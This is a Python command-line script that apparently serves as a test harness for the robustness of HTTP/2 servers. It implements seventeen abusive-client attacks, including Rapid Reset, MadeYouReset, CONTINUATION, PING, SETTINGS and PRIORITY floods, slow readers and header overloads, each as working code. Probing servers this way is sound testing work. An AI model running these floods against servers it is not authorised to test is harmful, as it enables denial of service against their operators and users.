#!/usr/bin/python3
"""
What a well-behaved client of HTTP/2 never does, bounded in time: `hostile.py ATTACK HOST PORT`. Prints one line of JSON
with what came back. Needs Debian's python3-h2.
"""

import argparse
import json
import sys

sys.dont_write_bytecode = True

from h2.errors import ErrorCodes  # noqa: E402
from h2.settings import SettingCodes  # noqa: E402
from hyperframe.frame import (  # noqa: E402
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from hostile_peer import LARGEST_WINDOW, PREFACE, Peer  # noqa: E402

UPLOAD = {"method": "PUT", "flags": ("END_HEADERS",)}


def reset_flood(peer, options):
    """Requests that are taken back at once (CVE-2023-44487), with the `--code` of a reset."""
    peer.begin()
    code = ErrorCodes[options.code]
    flags = ["END_HEADERS", "END_STREAM"] if options.method == "GET" else ["END_HEADERS"]

    def say():
        stream = peer.next_stream
        peer.next_stream += 2
        peer.say(
            HeadersFrame(stream, peer.headers(options.method), flags=flags),
            RstStreamFrame(stream, code),
        )

    peer.flood(say)


def made_you_reset(peer, options):
    """
    Requests that the server itself has to reset (CVE-2025-8671). `--how` tells by what: a WINDOW_UPDATE of `zero`, one
    that is an `overflow`, DATA after the end (`closed`), DATA beyond the content-length (`length`), a name that no field
    may have (`field`), more fields than it takes (`fields`), or more streams (`refused`).
    """
    if options.how == "refused":
        peer.begin_with_window(0)
        peer.grants_streams = False
        peer.flood(peer.open)
        return
    peer.begin()

    def say():
        stream = peer.next_stream
        peer.next_stream += 2
        more = {
            "field": [("UPPER", "case")],
            "fields": [("x", "y")] * options.fields,
            "length": [("content-length", "1")],
        }.get(options.how, [])
        is_whole = options.how in ("field", "fields")
        flags = ["END_HEADERS", "END_STREAM"] if is_whole else ["END_HEADERS"]
        peer.say(HeadersFrame(stream, peer.headers("PUT", more=more), flags=flags))
        if options.how == "zero":
            peer.say(WindowUpdateFrame(stream, 0))
        elif options.how == "overflow":
            peer.say(WindowUpdateFrame(stream, LARGEST_WINDOW))
        elif options.how == "closed":
            peer.say(DataFrame(stream, b"x", flags=["END_STREAM"]), DataFrame(stream, b"x"))
        elif options.how == "length":
            peer.say(DataFrame(stream, b"xx"))

    peer.flood(say)


def continuation_flood(peer, options):
    """Headers that have no end. `--how empty`: without a byte in them (CVE-2024-27983 and its kin)."""
    peer.begin()
    block = b"" if options.how == "empty" else b"\x00\x01x\x40" + b"a" * 64
    peer.say(HeadersFrame(1, peer.headers(), flags=["END_STREAM"]))
    peer.flood(lambda: peer.say(ContinuationFrame(1, block)))


def settings_flood(peer, options):
    """SETTINGS that each want an answer. `--how change`: each gives the open streams another window."""
    peer.begin()
    windows = [{SettingCodes.INITIAL_WINDOW_SIZE: size} for size in (1, 65_535)]

    def say():
        peer.say(SettingsFrame(0, windows[peer.sent["Settings"] % 2] if options.how == "change" else {}))

    peer.flood(say, reads=not options.no_read)


def ping_flood(peer, options):
    """PINGs that each want an answer; `--no-read`: and nobody takes them."""
    peer.begin()
    ping = PingFrame(0, b"hotblob!")
    peer.flood(lambda: peer.say(ping), reads=not options.no_read)


def window_overflow(peer, options):
    """More window for the connection than there may be (RFC 9113, 6.9.1)."""
    peer.begin()
    peer.say(WindowUpdateFrame(0, LARGEST_WINDOW), WindowUpdateFrame(0, LARGEST_WINDOW))
    watch(peer)


def empty_data_flood(peer, options):
    """An upload in pieces of no bytes (CVE-2019-9518)."""
    peer.begin()
    stream = peer.open(**UPLOAD)
    peer.flood(lambda: peer.say(DataFrame(stream)))


def priority_flood(peer, options):
    """An order of streams that changes without end (CVE-2019-9513)."""
    peer.begin()

    def say():
        stream = 1 + 2 * (peer.sent["Priority"] % 1000)
        peer.say(PriorityFrame(stream, depends_on=0, stream_weight=peer.sent["Priority"] % 256))

    peer.flood(say)


def slow_reader(peer, options):
    """Downloads read at `--rate` bytes a second, each by its window, or, `--how socket`, all by their socket."""
    if options.how == "socket":
        peer.begin_with_window(LARGEST_WINDOW)
        open_streams(peer)
        step = 0.05
        most = max(1, int(options.rate * step))
        while not peer.is_over:
            peer.pump(0.01, most=most)
            peer.wait(step, reads=False)
        return
    peer.begin_with_window(options.window)
    peer.grants_streams = False
    open_streams(peer)
    granted = 0
    while not peer.is_over:
        peer.wait(0.05)
        increment = int(peer.now() * options.rate) - granted
        granted += increment
        for stream in [*alive(peer)] if increment > 0 else []:
            peer.grant(stream, increment)


def no_window(peer, options):
    """Downloads of which not a byte may come. The connection itself is well: PING and SETTINGS are answered."""
    peer.begin_with_window(0)
    peer.grants_streams = False
    open_streams(peer)
    watch(peer)


def deaf(peer, options):
    """Downloads whose client reads nothing any more after the first bytes. What came until its end is read last."""
    peer.begin_with_window(LARGEST_WINDOW)
    open_streams(peer)
    while not peer.is_over and peer.bytes_read == 0:
        peer.pump(0.05, most=1)
    while not peer.is_over:
        peer.pump(0.05, reads=False)
    # The socket's buffer hides what became of the connection.
    if peer.closed_by != "reset":
        peer.answers_pings = peer.acks_settings = peer.grants_connection = peer.grants_streams = False
        options.seconds += options.listen
        watch(peer)


def half_preface(peer, options):
    """The first `--bytes` of preface and SETTINGS, in pieces of `--piece` bytes, `--pause` seconds apart."""
    words = (PREFACE + SettingsFrame(0).serialize())[: options.bytes]
    peer.speaks_http2 = options.bytes >= len(PREFACE)
    peer.acks_settings = False
    for at in range(0, len(words), options.piece):
        peer.raw(words[at : at + options.piece])
        peer.wait(options.pause)
    watch(peer)


def goaway_watch(peer, options):
    """
    Downloads, and what the server says about the connection's end meanwhile. Each GOAWAY is followed by one more request.
    `--hold`: nothing of the downloads is taken before so many seconds.
    """
    peer.answers_pings = not options.no_pong
    peer.begin_with_window(0 if options.hold > 0 else LARGEST_WINDOW)
    peer.on_goaway = lambda goaway: peer.open() if goaway["code"] == "NO_ERROR" else None
    open_streams(peer)
    peer.wait(options.hold)
    if options.hold > 0:
        peer.say(SettingsFrame(0, {SettingCodes.INITIAL_WINDOW_SIZE: LARGEST_WINDOW}))
    watch(peer)


def settings_no_ack(peer, options):
    """A client that never says that it has seen the server's settings."""
    peer.acks_settings = False
    peer.begin()
    open_streams(peer)
    watch(peer)


def too_many_streams(peer, options):
    """More requests at the same time than the server allows; none is taken, so that none ends."""
    peer.begin_with_window(0)
    peer.grants_streams = False
    open_streams(peer)
    watch(peer)


def too_many_headers(peer, options):
    """A request with `--fields` fields of `--size` bytes each."""
    peer.begin()
    stream = peer.next_stream
    peer.next_stream += 2
    block = peer.headers(more=[(f"x-{number}", "v" * options.size) for number in range(options.fields)])
    first, *rest = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    peer.streams[stream] = {"openedAt": peer.now(), "status": None, "bytes": 0, "endedAt": None, "reset": None}
    peer.say(HeadersFrame(stream, first, flags=["END_STREAM"] if rest else ["END_HEADERS", "END_STREAM"]))
    for number, piece in enumerate(rest, 1):
        peer.say(ContinuationFrame(stream, piece, flags=["END_HEADERS"] if number == len(rest) else []))
    watch(peer)


def headers_then_silence(peer, options):
    """Uploads that are announced, and never come. PING and SETTINGS are answered."""
    peer.begin()
    for _ in range(options.streams):
        peer.open(**UPLOAD, more=[("content-length", str(options.bytes))])
    watch(peer)


def open_streams(peer):
    for _ in range(peer.options.streams):
        peer.open()


def alive(peer):
    return (number for number, stream in peer.streams.items() if stream["endedAt"] is None and stream["reset"] is None)


def watch(peer):
    while not peer.is_over:
        peer.pump(0.05)


ATTACKS = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        reset_flood,
        made_you_reset,
        continuation_flood,
        settings_flood,
        ping_flood,
        window_overflow,
        empty_data_flood,
        priority_flood,
        slow_reader,
        no_window,
        deaf,
        half_preface,
        goaway_watch,
        settings_no_ack,
        too_many_streams,
        too_many_headers,
        headers_then_silence,
    )
}


def arguments():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--seconds", type=float, default=5, help="when it ends, unless the server ends it before")
    parser.add_argument("--path", default="/")
    parser.add_argument("--how", default="", help="the variant: see each attack")
    parser.add_argument("--code", choices=[code.name for code in ErrorCodes], default="CANCEL")
    parser.add_argument("--method", default="GET", help="of the requests of a reset flood; all but GET announce a body")
    parser.add_argument("--streams", type=int, default=1)
    parser.add_argument("--count", type=int, help="how often a flood repeats itself at most")
    parser.add_argument("--rate", type=float, help="how often a second; bytes a second of a slow reader")
    parser.add_argument("--window", type=int, default=1, help="what a slow reader grants each stream at first")
    parser.add_argument("--receive-buffer", type=int, help="the kernel's, in bytes")
    parser.add_argument("--no-read", action="store_true")
    parser.add_argument("--no-pong", action="store_true")
    parser.add_argument("--hold", type=float, default=0)
    parser.add_argument("--listen", type=float, default=2, help="how long the deaf one hears at last, in seconds")
    parser.add_argument("--bytes", type=int, default=12)
    parser.add_argument("--piece", type=int, default=1)
    parser.add_argument("--pause", type=float, default=0.05)
    parser.add_argument("--fields", type=int, default=200)
    parser.add_argument("--size", type=int, default=8)
    parser.add_argument("--most-streams", type=int, default=200, help="how many streams the report tells of")
    return parser.parse_args()


def main():
    options = arguments()
    peer = Peer(options)
    ATTACKS[options.attack](peer, options)
    print(json.dumps({"attack": options.attack, **peer.report()}))


if __name__ == "__main__":
    main()
